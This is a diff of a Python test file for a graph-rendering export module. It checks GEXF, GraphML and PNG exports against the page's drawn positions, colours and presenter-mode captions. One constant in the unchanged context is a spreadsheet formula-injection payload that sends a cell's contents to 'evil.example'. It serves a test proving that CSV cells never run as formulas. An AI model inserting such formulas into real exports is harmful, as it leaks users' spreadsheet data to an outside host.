@@ -6,6 +6,8 @@ from __future__ import annotations
 import copy
 import csv
 import io
+import json
+import re
 import zipfile
 from pathlib import Path
 
@@ -17,14 +19,13 @@ from PIL import Image
 from graph.render import html
 from graph.render.export import (
     GEXF_NS,
-    POSITION_SCALE,
     VIZ_NS,
     Drawing,
     drawing_of,
     export_bytes,
     records_csv,
 )
-from graph.render.picture import HEIGHT, WIDTH
+from graph.render.picture import HEIGHT, WIDTH, captions_drawn
 
 SCHEMAS = Path(__file__).parent / "fixtures" / "gexf-1.3"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -70,6 +71,13 @@ def xsd() -> etree.XMLSchema:
     return etree.XMLSchema(etree.parse(str(SCHEMAS / "gexf.xsd")))
 
 
+def page_data(page: str) -> dict:
+    """The JSON the page draws from."""
+    match = re.search(r'<script id="cg-data" type="application/json">(.*?)</script>', page, re.S)
+    assert match, "the page carries its data block"
+    return json.loads(match.group(1))
+
+
 def without_viz(document: etree._Element) -> etree._Element:
     bare = copy.deepcopy(document)
     for element in bare.iter(f"{{{VIZ_NS}}}*"):
@@ -105,7 +113,7 @@ def test_gexf_round_trips_with_names_as_labels() -> None:
 def test_gexf_and_graphml_carry_the_drawings_positions_and_colours() -> None:
     g = graph()
     drawing = Drawing(
-        positions={n: (i / 10, -i / 10) for i, n in enumerate(sorted(g))},
+        positions={n: (i * 10.0, -i * 10.0) for i, n in enumerate(sorted(g))},
         colours={n: "#123456" for n in g},
         sizes={n: 20.0 for n in g},
     )
@@ -113,28 +121,86 @@ def test_gexf_and_graphml_carry_the_drawings_positions_and_colours() -> None:
     for i, node in enumerate(sorted(g)):
         viz = read.nodes[node]["viz"]
         # Gephi's y axis points up, the screen's down
-        assert viz["position"]["x"] == pytest.approx(i / 10 * POSITION_SCALE)
-        assert viz["position"]["y"] == pytest.approx(i / 10 * POSITION_SCALE)
+        assert viz["position"]["x"] == pytest.approx(i * 10.0)
+        assert viz["position"]["y"] == pytest.approx(i * 10.0)
         assert (viz["color"]["r"], viz["color"]["g"], viz["color"]["b"]) == (0x12, 0x34, 0x56)
         assert viz["size"] == pytest.approx(20.0)
     graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml", drawing=drawing)))
     tartu = graphml.nodes["city:ee:tartu"]
     assert (tartu["label"], tartu["kind"]) == ("Tartu", "City")
     assert (tartu["r"], tartu["g"], tartu["b"], tartu["color"]) == (0x12, 0x34, 0x56, "#123456")
-    assert tartu["x"] == pytest.approx(drawing.positions["city:ee:tartu"][0] * POSITION_SCALE)
+    assert tartu["x"] == pytest.approx(drawing.positions["city:ee:tartu"][0])
     assert {d["relation"] for *_, d in graphml.edges(data=True)} >= {"SHARED", "ABOUT"}
 
 
-def test_default_drawing_is_the_network_views_layout_and_kind_colours() -> None:
+def test_default_drawing_is_the_network_views_drawing_and_kind_colours() -> None:
     g = graph()
     drawing = drawing_of(g)
-    assert drawing.positions == html.layout(g)
+    page = page_data(html.network_html(g))
+    assert {n["id"]: (n["x"], n["y"]) for n in page["nodes"]} == dict(drawing.positions)
     assert drawing.colours["city:ee:tartu"] == html.LABEL_STYLE["City"][0]
     read = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
-    x, _ = html.layout(g)["practice:bikes"]
-    assert read.nodes["practice:bikes"]["viz"]["position"]["x"] == pytest.approx(
-        x * POSITION_SCALE, abs=0.01
-    )
+    x, _ = drawing.positions["practice:bikes"]
+    assert read.nodes["practice:bikes"]["viz"]["position"]["x"] == pytest.approx(x, abs=0.01)
+
+
+def hex_of(rgb: dict) -> str:
+    return f"#{rgb['r']:02x}{rgb['g']:02x}{rgb['b']:02x}"
+
+
+def crowded() -> nx.MultiDiGraph:
+    """A tree of 300 nodes: the layout puts many leaves on their neighbour, so the page
+    pushes them apart before drawing."""
+    tree = nx.barabasi_albert_graph(300, 1, seed=2)
+    g = nx.MultiDiGraph()
+    for n in tree:
+        g.add_node(f"city:xx:c{n}", label="City", name=f"City {n}")
+    for u, v in tree.edges():
+        g.add_edge(f"city:xx:c{u}", f"city:xx:c{v}", key="LINK", type="LINK")
+    return g
+
+
+def test_exports_carry_the_positions_as_drawn_after_shapes_are_pushed_apart() -> None:
+    g = crowded()
+    page = page_data(html.network_html(g))
+    drawn = {n["id"]: (n["x"], n["y"], n["size"], n["color"]) for n in page["nodes"]}
+    # the page's positions are not the layout's: overlapping shapes were moved
+    spread = html.SPREAD * g.number_of_nodes() ** 0.5
+    laid = html.layout(g)
+    moved = [
+        n
+        for n in g
+        if abs(drawn[n][0] - laid[n][0] * spread) + abs(drawn[n][1] - laid[n][1] * spread) > 5
+    ]
+    assert len(moved) > 20
+    gexf = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf")))
+    graphml = nx.read_graphml(io.BytesIO(export_bytes(g, "graphml")))
+    for node, (x, y, size, colour) in drawn.items():
+        viz = gexf.nodes[node]["viz"]
+        # the same picture: canvas units, with Gephi's y axis pointing up
+        assert (viz["position"]["x"], -viz["position"]["y"]) == pytest.approx((x, y), abs=0.01)
+        assert viz["size"] == pytest.approx(size)
+        assert hex_of(viz["color"]) == colour
+        assert (graphml.nodes[node]["x"], -graphml.nodes[node]["y"]) == pytest.approx(
+            (x, y), abs=0.01
+        )
+
+
+def test_a_colour_grouping_reaches_the_page_the_exports_and_the_png_legend() -> None:
+    g = graph()
+    groups = {n: (0 if n.startswith("city:") else 1) for n in g}
+    drawing = drawing_of(g, color_by=groups)
+    page = page_data(html.network_html(g, color_by=groups))
+    assert {n["id"]: n["color"] for n in page["nodes"]} == dict(drawing.colours)
+    assert drawing.colours["city:ee:tartu"] == drawing.colours["city:ee:voru"]
+    assert drawing.colours["city:ee:tartu"] != drawing.colours["practice:bikes"]
+    gexf = nx.read_gexf(io.BytesIO(export_bytes(g, "gexf", drawing=drawing)))
+    rgb = gexf.nodes["topic:mobility"]["viz"]["color"]
+    assert hex_of(rgb) == drawing.colours["topic:mobility"]
+    picture = Image.open(io.BytesIO(export_bytes(g, "png", drawing=drawing))).convert("RGB")
+    legend_band = {c for _, c in colours(picture.crop((0, picture.height - 140, *picture.size)))}
+    for colour in set(drawing.colours.values()):
+        assert tuple(int(colour[i : i + 2], 16) for i in (1, 3, 5)) in legend_band, colour
 
 
 def colours(image: Image.Image) -> list[tuple[int, tuple[int, ...]]]:
@@ -154,6 +220,17 @@ def test_png_is_twice_the_size_with_title_and_legend() -> None:
     for kind in ("City", "Country", "Practice", "Event", "Topic", "Source"):
         colour = html.LABEL_STYLE[kind][0].lstrip("#")
         assert tuple(int(colour[i : i + 2], 16) for i in (0, 2, 4)) in legend_band, kind
+
+
+def test_the_png_is_labelled_with_the_drawings_captions_masked_in_presenter_mode() -> None:
+    g = graph()
+    g.add_node("person:ada-lind", label="Person", name="Ada Lind")
+    g.add_edge("person:ada-lind", "practice:bikes", key="PRESENTED", type="PRESENTED")
+    plain = captions_drawn(export_bytes(g, "png", drawing=drawing_of(g)))
+    assert "Ada Lind" in plain and "Tartu" in plain
+    shown = captions_drawn(export_bytes(g, "png", drawing=drawing_of(g, presenter=True)))
+    assert "Speaker" in shown and "Tartu" in shown
+    assert not any("Ada" in text or "Lind" in text for text in shown)
 
 
 def test_csv_cells_never_run_as_formulas() -> None:
